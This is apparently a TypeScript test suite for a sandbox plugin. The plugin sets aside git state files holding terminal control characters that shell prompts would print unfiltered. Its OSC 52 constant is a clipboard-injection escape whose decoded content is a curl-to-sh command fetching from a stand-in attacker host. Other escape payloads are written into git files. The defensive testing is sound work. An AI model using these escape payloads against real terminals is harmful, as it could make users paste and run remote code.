/**
 * Files of a git directory that shell prompts print as they are (git-printed.ts), given terminal
 * control characters by a sandboxed command: set aside after it, through the real sandbox on a
 * real repository. UTF-8 text (whose continuation bytes include 0x80–0x9F) is no control; a C1
 * control, encoded in UTF-8 or as a raw byte, is. A rebase git itself left stopped is untouched.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { hasControl } from '../../../plugins/sandbox-os/git-printed.js';
import { QUARANTINE_SUFFIX } from '../../../plugins/sandbox-os/git-sweep.js';
import { sandboxFixture, skipWithoutSandbox, type SandboxFixture } from './fixture.js';

const tally = { skip: (_count: number, reason: string) => console.warn(`skipped: ${reason}`) };
const ID = '-c user.email=t@example.com -c user.name=t';
/** OSC 52: the terminal sets the clipboard to `curl -s https://evil.example/x | sh # `. */
const OSC52 = '\\033]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2ggIyA=\\007';

let fx: SandboxFixture;
const git = (...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: fx.root, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], env: { PATH: process.env.PATH, HOME: fx.home, GIT_CONFIG_NOSYSTEM: '1' } });

beforeEach(async () => {
  fx = await sandboxFixture();
  rmSync(path.join(fx.root, '.git'), { recursive: true, force: true });
  git('init', '-q', '-b', 'main');
  writeFileSync(path.join(fx.root, 'a.txt'), 'base\n');
  git('add', 'a.txt');
  git('commit', '-q', '-m', 'base');
});

/** What was set aside in the git directory's state directories and top level (relative names). */
function setAside(): string[] {
  const found: string[] = [];
  for (const dir of ['', 'rebase-merge', 'rebase-apply', 'sequencer']) {
    const full = path.join(fx.root, '.git', dir);
    if (!existsSync(full)) continue;
    for (const name of readdirSync(full)) if (name.endsWith(QUARANTINE_SUFFIX)) found.push(path.join(dir, name.slice(0, -QUARANTINE_SUFFIX.length)));
  }
  return found.sort();
}

/** The prompt git's own helper prints there (undefined where git-sh-prompt is not installed). */
function prompt(): string | undefined {
  const helper = ['/usr/lib/git-core/git-sh-prompt', '/usr/share/git-core/contrib/completion/git-prompt.sh'].find((file) => existsSync(file));
  if (helper === undefined) return undefined;
  return spawnSync('bash', ['-c', `. ${helper}; __git_ps1 '(%s)'`], { cwd: fx.root, encoding: 'utf8', env: { PATH: process.env.PATH, HOME: fx.home, GIT_CONFIG_NOSYSTEM: '1' } }).stdout;
}

test("a rebase's step counter (rebase-merge/msgnum) given OSC 52: set aside; the prompt prints no escape; its other files stay", async () => {
  if (skipWithoutSandbox(tally, 'rebase-merge/msgnum', fx.status)) return;
  await fx.run(`g=.git/rebase-merge; mkdir -p $g && printf 'refs/heads/main\\n' > $g/head-name && printf '1${OSC52}\\n' > $g/msgnum && printf '2\\n' > $g/end && : > $g/interactive && git rev-parse HEAD > $g/orig-head && git rev-parse HEAD > $g/onto && : > $g/git-rebase-todo`);
  expect(setAside()).toEqual(['rebase-merge/msgnum']);
  expect(prompt() ?? '').not.toContain('\u001b');
  expect(fx.warnings.join('\n')).toMatch(/a git state file with terminal control characters \(rebase-merge\/msgnum, which a git-aware prompt prints as it is\)/);
}, 30_000);

test("an am's patch counter (rebase-apply/next), and CHERRY_PICK_HEAD, MERGE_MSG and sequencer/todo with controls: set aside", async () => {
  if (skipWithoutSandbox(tally, 'rebase-apply/next', fx.status)) return;
  await fx.run(
    `g=.git/rebase-apply; mkdir -p $g .git/sequencer && printf '1${OSC52}\\n' > $g/next && printf '3\\n' > $g/last && : > $g/applying && ` +
      `printf '\\033[2J\\n' > .git/CHERRY_PICK_HEAD && printf 'Merge \\302\\235 52;c;x\\302\\234\\n' > .git/MERGE_MSG && printf 'pick 1234567 \\233 31m\\n' > .git/sequencer/todo`,
  );
  expect(setAside()).toEqual(['CHERRY_PICK_HEAD', 'MERGE_MSG', 'rebase-apply/next', 'sequencer/todo']);
}, 30_000);

test("gc.log given an OSC 52 in C1 form (git prints it as it is at the next command that would run gc): set aside", async () => {
  if (skipWithoutSandbox(tally, 'gc.log', fx.status)) return;
  await fx.run(`printf 'gc failed \\302\\23552;c;eA==\\302\\234\\n' > .git/gc.log`);
  expect(setAside()).toEqual(['gc.log']);
}, 30_000);

test('a state directory moved into place whole (its files keep their old times): each file is judged', async () => {
  if (skipWithoutSandbox(tally, 'moved state directory', fx.status)) return;
  await fx.run(`mkdir -p .git/prepared && printf 'refs/heads/main\\n' > .git/prepared/head-name && printf '1${OSC52}\\n' > .git/prepared/msgnum && printf '2\\n' > .git/prepared/end`);
  expect(setAside()).toEqual([]); // nothing prints .git/prepared
  await new Promise((resolve) => setTimeout(resolve, 2100)); // past the slack the sweep allows for file times
  await fx.run('mv .git/prepared .git/rebase-merge');
  expect(setAside()).toEqual(['rebase-merge/msgnum']);
}, 30_000);

test('control: a rebase git stopped on a conflict, with UTF-8 text in its messages, is left as it is and can go on', async () => {
  if (skipWithoutSandbox(tally, 'ordinary rebase', fx.status)) return;
  const out = await fx.run(
    `git checkout -q -b topic && echo topic > a.txt && git ${ID} commit -qam 'Café → “topic” ő' && git checkout -q main && echo main > a.txt && git ${ID} commit -qam 'Merge ‘main’ — ü' && ` +
      `git checkout -q topic && (git ${ID} rebase main >/dev/null 2>&1 || echo stopped) && ls .git/rebase-merge | wc -l`,
  );
  expect(String(out.content)).toMatch(/stopped/);
  expect(setAside()).toEqual([]);
  expect(fx.warnings).toEqual([]);
  expect(prompt() ?? '(topic|REBASE 1/1)').toContain('REBASE 1/1');
  git('rebase', '--abort');
}, 30_000);

test('control characters, C1 included, as UTF-8 or as raw bytes; UTF-8 text is none', () => {
  const bytes = (...values: number[]): Buffer => Buffer.from(values);
  expect(hasControl(Buffer.from('1\u001b]52;c;x\u0007'))).toBe(true);
  expect(hasControl(Buffer.from('ref: refs/heads/\u009b31m'))).toBe(true); // U+009B (CSI) as UTF-8: C2 9B
  expect(hasControl(bytes(0x31, 0x9d, 0x35, 0x32))).toBe(true); // a raw OSC byte: not UTF-8
  expect(hasControl(bytes(0x6f, 0xc5, 0x91, 0xff))).toBe(true); // not UTF-8 (0xFF): read byte by byte, 0x91 is a C1 control
  expect(hasControl(Buffer.from('Café → “topic” ő — ü\ttab\r\n'))).toBe(false); // continuation bytes 0x80–0x9F inside UTF-8
  expect(hasControl(bytes(0x63, 0x61, 0x66, 0xe9))).toBe(false); // Latin-1 "café": not UTF-8, no C1 byte
  expect(hasControl(Buffer.from('\u007f'))).toBe(true);
});
